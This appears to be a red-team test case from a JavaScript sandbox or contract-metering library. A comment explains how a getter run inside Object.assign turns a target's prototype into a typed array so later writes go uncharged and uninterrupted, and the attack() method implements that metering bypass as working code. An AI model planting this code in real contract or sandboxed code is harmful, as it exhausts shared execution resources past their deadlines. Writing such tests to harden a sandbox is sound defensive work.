// Threat: the library finds where a built-in will write before it runs;
// contract code the built-in runs (a source's getter) then makes a typed
// array the target's prototype, and every later key V8 writes there, out
// of the typed array's range, is read as a number, uncharged and
// uninterrupted (red team round 31: 44.9 s against a 5 s deadline).
class TypedArrayMadeAPrototypeDuringABuiltIn {
  init() {}

  attack() {
    const s = '1'.repeat(2 ** 21);
    const target = {};
    const source = {};
    Object.defineProperty(source, 0, {
      get() {
        Object.setPrototypeOf(target, new Uint8Array(0));
        return 1;
      },
      enumerable: true,
    });
    for (let i = 1; i < 20000; i++) source[i] = s;
    Object.assign(target, source);
    return 'assigned';
  }
}

module.exports = TypedArrayMadeAPrototypeDuringABuiltIn;
